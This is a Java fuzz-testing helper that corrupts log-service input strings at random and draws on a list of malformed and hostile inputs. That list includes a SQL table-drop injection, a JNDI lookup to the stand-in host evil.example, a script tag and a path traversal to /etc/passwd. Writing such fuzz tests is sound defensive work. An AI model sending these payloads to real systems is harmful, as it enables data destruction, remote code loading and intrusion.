package com.astrobookings.logs.fuzz;

import java.util.List;
import java.util.Random;

/** What can happen to a text on its way, and texts that no client should send. */
final class Damage extends RandomText {

  private static final List<String> ODD =
      List.of(
          "",
          " ",
          "null",
          "-1",
          "1e999",
          "9".repeat(400),
          "\u0000",
          "\u202e",
          "\ud83d\ude80",
          "e\u0301",
          "\uff41",
          "*",
          "now-99999999999y",
          "'; DROP TABLE logs; --",
          "${jndi:ldap://evil.example/x}",
          "<script>alert(1)</script>",
          "../../etc/passwd",
          "%00%0d%0a",
          "=HYPERLINK(1)",
          "a".repeat(9_000),
          "(".repeat(40),
          "not ".repeat(40),
          "{\"a\":".repeat(600),
          "[".repeat(2_000));

  Damage(Random random) {
    super(random);
  }

  String odd() {
    return oneOf(ODD);
  }

  /** A text after one to three small damages. */
  String to(String text) {
    String damaged = text;
    for (int i = between(1, 3); i > 0; i--) {
      damaged = once(damaged);
    }
    return damaged;
  }

  private String once(String text) {
    int at = between(0, text.length());
    String head = text.substring(0, at);
    String tail = text.substring(at);
    return anyOf(
        () -> head + tail.substring(Math.min(between(1, 12), tail.length())),
        () -> head + odd() + tail,
        () -> head,
        () -> text + text,
        () -> text.replaceFirst("\"\\w+\":", "\"" + plain(odd()) + "\":"),
        () -> text.replaceFirst(":\"[^\"]*\"", ":\"" + plain(odd()) + "\""),
        () -> text.replaceFirst(":\"[^\"]*\"", ":{\"deep\":[1,null,true]}"),
        () -> text.replaceFirst("AUTH|ERROR|RECONCILE|NOTIFY", "OTHER"));
  }

  private static String plain(String text) {
    return text.replaceAll("[\"\\\\$\\p{Cntrl}]", "_");
  }
}
